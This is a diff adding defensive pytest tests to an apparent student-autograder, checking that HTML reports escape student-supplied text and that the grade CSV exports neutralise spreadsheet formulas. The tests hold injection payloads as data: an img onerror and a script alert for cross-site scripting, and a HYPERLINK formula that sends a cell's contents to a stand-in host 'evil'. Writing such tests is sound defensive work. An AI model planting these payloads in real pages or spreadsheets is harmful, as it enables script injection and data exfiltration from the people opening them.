@@ -40,3 +40,51 @@ def test_a_feedback_file_is_inert_whatever_the_student_wrote():
     assert page.count("<pre>") == 1 and page.count("</pre>") == 1  # the report stays one code block
     assert name in shown and "[x](javascript:alert(1)).ipynb" in shown and "**bob**" in shown
     assert "<script>alert(1)</script>" in shown  # shown as text, inside the code block
+
+
+def _report(student_id: str, status_text: str = "", submission: str = "x.py") -> SubmissionReport:
+    part = Part("ex1", "Exercise 1 (easy): Chinchilla loss calculator", "chinchilla_loss", 10)
+    report = SubmissionReport(submission=submission, student_id=student_id, name=student_id, parts=[part],
+                              results=[(Check("ex1", "ex1_gpt3", 10, False, "chinchilla_loss"), Result(True, "ok"))])
+    report.status_text = status_text
+    return report
+
+
+def test_the_class_report_shows_a_status_naming_files_as_text():
+    """The status names files the student chose ("several files: ... also sent <name>"): the
+    class report's table shows them as text, never as markup."""
+    from autograde.reports import class_report_html
+
+    status = "several files: graded a.py (the newest script); also sent <img src=x onerror=alert(1)>.py, <b>y"
+    page = class_report_html([_report("alice", status)])
+    assert "<img" not in page and "<b>y" not in page and html.escape(status) in page
+
+
+def test_scrubbing_the_machines_folders_cannot_uncover_a_spreadsheet_formula(tmp_path, monkeypatch):
+    import csv
+
+    from autograde import lms, reports
+
+    monkeypatch.setattr(reports, "PRIVATE_ROOTS", [tmp_path])
+    name = f"{tmp_path}/=HYPERLINK(\"http://evil/\"&A1,\"click\")"
+    report = _report(name)
+    reports.write_csv(tmp_path / "grades.csv", [report])
+    reports.write_atomically(tmp_path / "canvas.csv", lms.canvas_csv([(report, None)], "Exercises"))
+    reports.write_atomically(tmp_path / "moodle.csv", lms.moodle_csv([(report, None)]))
+    for out in ("grades.csv", "canvas.csv", "moodle.csv"):
+        with (tmp_path / out).open(newline="", encoding="utf-8") as f:
+            cells = [c for row in csv.reader(f) for c in row]
+        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), (out, cells)
+        assert any(c == "'=HYPERLINK(\"http://evil/\"&A1,\"click\")" for c in cells), (out, cells)
+
+
+def test_students_whose_ids_make_one_file_name_each_get_their_own_feedback(tmp_path):
+    from autograde.reports import write_feedback
+
+    ids = ["ann lee", "ann_lee", "ann+lee", "Bob", "bob", "carol"]
+    write_feedback(tmp_path, [_report(i) for i in ids])
+    files = sorted(p.name for p in tmp_path.iterdir())
+    assert len(files) == len(ids) and len({f.lower() for f in files}) == len(ids)
+    assert "carol.md" in files  # a name nobody shares stays as it was
+    for i in ids:
+        assert sum(f"- Student: {textsafe.markdown(i)}\n" in (tmp_path / f).read_text() for f in files) == 1
